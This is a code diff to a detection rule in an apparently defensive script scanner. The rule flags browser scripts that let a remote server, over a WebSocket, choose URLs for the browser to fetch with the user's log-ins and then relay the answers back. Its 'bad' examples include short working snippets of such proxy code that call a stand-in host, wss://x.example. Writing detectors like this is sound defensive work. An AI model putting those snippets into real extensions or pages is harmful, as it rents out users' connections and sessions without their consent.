@@ -1,4 +1,7 @@
 import { apiPath, propertyOf } from '../../facts/javascript/query.ts';
+import type { Flow } from '../../flows/flow.ts';
+import { flowsOf } from '../../flows/flowsOf.ts';
+import { hitsOfFlows, type Weight } from '../../flows/hits.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isFromServer, requestsOf } from './network.ts';
@@ -20,29 +23,16 @@ export const fetchesForOthers = defineRule({
   ],
   why: 'A server sends addresses, the browser fetches them with the address and the log-ins of the person, and sends the answers back. The connection is rented out, whatever is done with it.',
   remedy: 'Take this out; nobody’s connection may be used without a clear agreement.',
-  check: checkScripts(function* ({ script, hit }) {
-    for (const request of requestsOf(script)) {
-      const path = apiPath(script, script.a[request.value] as number);
-      if (path !== 'fetch' && path !== 'XMLHttpRequest().open' && path !== 'axios.get' && path !== 'axios') continue;
-      if (!request.to.startsWith('*') || !isFromServer(script, request.address)) continue;
-      const ordered = originPaths(script, request.address).has('WebSocket');
-      // The server describes the whole request, not only where it goes.
-      const described = ['method', 'body'].every((name) =>
-        request.sent.some((value) => isFromServer(script, propertyOf(script, value, name))),
-      );
-      if (!ordered && !described && !unaskedCalls(script).has(request.value)) continue;
-      const out = leavesBy(script, new Set([request.value]), ['network']);
-      if (out === undefined || out.value === request.value) continue;
-      yield hit(
-        request.value,
-        ordered || described
-          ? { confidence: 'high' }
-          : { severity: 'medium', message: `The answer goes to ${out.to}.` },
-      );
-    }
-  }),
+  *check(facts) {
+    yield* within(facts);
+    const { flows } = facts.whole(flowsOf);
+    yield* hitsOfFlows(flows, (flow) => ordered(flow, flows));
+  },
   examples: {
     bad: [
+      backgroundExample(
+        'const table = { ask, pong() {} }; async function ask(job) { const r = await fetch(job.url, { method: job.method, headers: job.headers }); return r.text(); } function start() { ws = new WebSocket("wss://x.example/n"); ws.addEventListener("message", async (e) => { const m = JSON.parse(e.data); ws.send(JSON.stringify({ id: m.id, result: await table[m.action](m.data) })); }); } start();',
+      ),
       backgroundExample(
         'const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };',
       ),
@@ -63,3 +53,44 @@ export const fetchesForOthers = defineRule({
     ],
   },
 });
+
+/** Seen within one script. */
+const within = checkScripts(function* ({ script, hit }) {
+  for (const request of requestsOf(script)) {
+    const path = apiPath(script, script.a[request.value] as number);
+    if (path !== 'fetch' && path !== 'XMLHttpRequest().open' && path !== 'axios.get' && path !== 'axios') continue;
+    if (!request.to.startsWith('*') || !isFromServer(script, request.address)) continue;
+    const ordered = originPaths(script, request.address).has('WebSocket');
+    // The server describes the whole request, not only where it goes.
+    const described = ['method', 'body'].every((name) =>
+      request.sent.some((value) => isFromServer(script, propertyOf(script, value, name))),
+    );
+    if (!ordered && !described && !unaskedCalls(script).has(request.value)) continue;
+    const out = leavesBy(script, new Set([request.value]), ['network']);
+    if (out === undefined || out.value === request.value) continue;
+    yield hit(
+      request.value,
+      ordered || described ? { confidence: 'high' } : { severity: 'medium', message: `The answer goes to ${out.to}.` },
+    );
+  }
+});
+
+/** A server's own message decides where a request goes and what is in it: whoever sends it browses as the person. */
+function ordered({ source, sink, place }: Flow, flows: readonly Flow[]): Weight | undefined {
+  if (source.kind !== 'pushed' || sink.kind !== 'request-address') return undefined;
+  const isDescribed = flows.some(
+    (other) =>
+      other.source.kind === 'pushed' &&
+      other.sink.kind === 'network' &&
+      other.sink.apart !== true &&
+      other.place.path === place.path &&
+      other.place.line === place.line,
+  );
+  return isDescribed
+    ? {
+        severity: 'critical',
+        confidence: 'high',
+        message: 'A server’s messages decide where requests go and what they hold.',
+      }
+    : undefined;
+}
